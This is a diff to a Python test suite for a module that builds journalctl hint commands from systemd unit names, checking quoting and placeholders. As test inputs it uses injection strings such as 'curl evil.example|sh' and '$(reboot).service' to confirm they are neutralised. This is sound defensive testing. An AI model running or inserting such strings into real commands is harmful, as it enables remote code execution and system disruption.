@@ -239,10 +239,11 @@ def test_a_value_never_opens_or_closes_a_command() -> None:
     assert out.startswith("the start job of 'curl evil.example|sh' failed")
 
 
-def test_a_signature_default_is_put_in_as_written() -> None:
-    template = "`journalctl -b -u {unit}` ({status})"
-    assert hints.render(template, {}, {"unit": "the unit", "status": "n/a"}) == "`journalctl -b -u the unit` (n/a)"
-    assert hints.render(template, {"unit": "a b.service"}, {"unit": "the unit"}) == "`journalctl -b -u 'a b.service'` ()"
+def test_a_signature_default_is_put_in_as_written_in_prose_and_as_a_placeholder_in_a_command() -> None:
+    template = "`journalctl -b -u {unit}` ({status}; {unit})"
+    defaults = {"unit": "the unit", "status": "n/a"}
+    assert hints.render(template, {}, defaults) == "`journalctl -b -u UNIT` (n/a; the unit)"
+    assert hints.render(template, {"unit": "a b.service"}, {"unit": "the unit"}) == "`journalctl -b -u 'a b.service'` (; a b.service)"
 
 
 def _template_vars(rules: Any) -> list[tuple[str, str]]:
@@ -277,8 +278,10 @@ def test_every_command_of_the_signature_files_quotes_what_the_log_says() -> None
 
 
 def test_a_hint_without_a_cause_names_only_a_valid_unit() -> None:
-    forged = hints.no_cause_hint("$(reboot).service", 600, None, "")
-    assert "reboot" not in forged and "`journalctl -b -u the unit`" in forged
+    forged = hints.no_cause_hint("$(reboot).service", 600, None, "", at="2017-08-30T14:56:07.250000Z")
+    assert "reboot" not in forged  # not a unit name: the hint points at the journal of the moment instead
+    assert "`journalctl --since '2017-08-30 14:55:07 UTC' --until '2017-08-30 14:56:08 UTC'`" in forged
+    assert "journalctl -b -u" not in hints.no_cause_hint(None, 600, None, "")
     unit = "app-gnome-gnome\\x2dkeyring\\x2dpkcs11-1704.scope"
     assert f"`journalctl -b --user-unit '{unit}'`" in hints.no_cause_hint(unit, 600, None, "", user=True)
     assert "`journalctl -b -u 'a\\b.service'`" in hints.no_cause_hint("a\\b.service", 600, None, "")
